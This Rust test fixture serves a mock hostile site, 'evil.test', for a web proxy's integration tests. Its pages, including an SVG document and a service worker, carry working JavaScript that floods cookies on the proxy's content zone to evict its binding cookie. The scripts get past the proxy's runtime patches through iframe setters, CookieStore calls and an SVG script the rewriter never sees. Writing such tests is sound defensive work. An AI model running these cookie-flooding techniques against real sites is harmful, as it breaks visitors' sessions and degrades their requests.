//! `evil.test`: a hostile site that tries to write real browser cookies on the content
//! zone by every route a proxied page has, to push Tandem's binding cookie out of the
//! browser's per-site cap and to bloat every request of the visitor
//! (`tests/it/binding_eviction.rs`). Each page reports into `#out` (or, for the SVG
//! document, the root's `data-done`) once its writes are done.
//!
//! Query of every page: `n` cookies, each with a value of `size` bytes, with
//! `priority` (`low`/`medium`/`high`, default: none) and `secure` (any value) when given;
//! `utf8` (any value) starts every name and value with a character that is not ASCII.

use std::collections::HashMap;

use axum::Router;
use axum::extract::Query;
use axum::response::{IntoResponse, Response};
use axum::routing::get;
use http::header;

use super::runtime_sites::html;

/// The routes of `evil.test`.
pub fn evil<S: Clone + Send + Sync + 'static>() -> Router<S> {
    Router::new()
        .route("/runtime-routes", get(runtime_routes))
        .route("/flood.svg", get(svg_flood))
        .route("/worker-store", get(worker_store_page))
        .route("/worker-store.js", get(worker_store_script))
}

/// The script's settings and its cookie-line maker, shared by both pages: the zone is the
/// label's host minus the label (`location` is the label URL).
fn settings(query: &HashMap<String, String>) -> String {
    let number = |key: &str, default: u32| query.get(key).and_then(|v| v.parse().ok()).unwrap_or(default);
    let priority = query.get("priority").map(|p| format!("; priority={p}")).unwrap_or_default();
    let secure = if query.contains_key("secure") { "; secure" } else { "" };
    let mark = if query.contains_key("utf8") { "\u{e9}" } else { "" };
    format!(
        r#"const n = {n}, size = {size};
const zone = location.hostname.slice(location.hostname.indexOf('.') + 1);
const line = (name, i) => '{mark}' + name + i + '={mark}' + String(i % 10).repeat(size) + '; domain=' + zone + '; path=/{priority}{secure}';"#,
        n = number("n", 200),
        size = number("size", 10),
    )
}

/// A page the runtime runs in: writes through the routes that pass the runtime's own
/// patches by reaching another same-origin document: the page's native-looking
/// `Document.prototype.cookie` setter applied to an about:blank frame's document, the
/// frame's own `document.cookie`, and the page's `CookieStore.prototype.set` applied
/// to the frame's `cookieStore` (and its own `cookieStore`, with the zone as domain).
async fn runtime_routes(Query(query): Query<HashMap<String, String>>) -> Response {
    let script = format!(
        r#"{settings}
const out = {{ errors: [] }};
const frame = document.createElement('iframe');
document.body.append(frame);
const setter = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').set;
for (let i = 0; i < n; i++) {{
  try {{ setter.call(frame.contentDocument, line('frameset', i)); }} catch (e) {{ out.errors.push(String(e)); break; }}
}}
try {{ frame.contentDocument.cookie = line('framedoc', 0); }} catch (e) {{ out.errors.push(String(e)); }}
(async () => {{
  for (const [store, name] of [[frame.contentWindow.cookieStore, 'framestore'], [cookieStore, 'ownstore']]) {{
    try {{
      await CookieStore.prototype.set.call(store, {{ name, value: 'v', domain: zone, path: '/' }});
    }} catch (e) {{ out.errors.push(name + ': ' + String(e)); }}
  }}
}})().finally(() => {{
  out.done = true;
  document.getElementById('out').textContent = JSON.stringify(out);
}});"#,
        settings = settings(&query),
    );
    html(format!(
        "<!doctype html><html><body><h1>Free prizes</h1><pre id=out></pre><script>{script}</script></body></html>"
    ))
}

/// An SVG document: the HTML rewriter never sees it, so no runtime runs in it and its
/// script has the browser's own `document.cookie`.
async fn svg_flood(Query(query): Query<HashMap<String, String>>) -> Response {
    let script = format!(
        r#"{settings}
for (let i = 0; i < n; i++) document.cookie = line('svg', i);
// How many the browser holds right after the writes (the answers to the visitor's own
// requests sweep them out soon after): the name of every one starts as line() makes it.
const name = line('svg', '').split('=')[0];
const held = document.cookie.split('; ').filter((c) => c.startsWith(name)).length;
document.documentElement.setAttribute('data-done', String(held));"#,
        settings = settings(&query),
    );
    let svg = format!(
        r#"<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><script><![CDATA[{script}]]></script></svg>"#
    );
    ([(header::CONTENT_TYPE, "image/svg+xml")], svg).into_response()
}

/// A page that registers a service worker whose `cookieStore` writes a cookie with the
/// zone as domain; the worker answers the page's message when it is done.
async fn worker_store_page() -> Response {
    let script = r#"const out = { errors: [] };
const report = () => { document.getElementById('out').textContent = JSON.stringify(out); };
navigator.serviceWorker.addEventListener('message', (event) => { out.worker = event.data; out.done = true; report(); });
navigator.serviceWorker.register('/worker-store.js').then(() => navigator.serviceWorker.ready)
  .then((registration) => registration.active.postMessage('go'))
  .catch((e) => { out.errors.push(String(e)); out.done = true; report(); });"#;
    html(format!("<!doctype html><html><body><pre id=out></pre><script>{script}</script></body></html>"))
}

async fn worker_store_script() -> Response {
    let script = r#"self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('message', (event) => {
  const zone = location.hostname.slice(location.hostname.indexOf('.') + 1);
  event.waitUntil(
    cookieStore.set({ name: 'workerstore', value: 'v', domain: zone, path: '/' })
      .then(() => cookieStore.get('workerstore'))
      .then((item) => event.source.postMessage({ read: item && item.value }))
      .catch((e) => event.source.postMessage({ error: String(e) })),
  );
});"#;
    ([(header::CONTENT_TYPE, "text/javascript")], script).into_response()
}
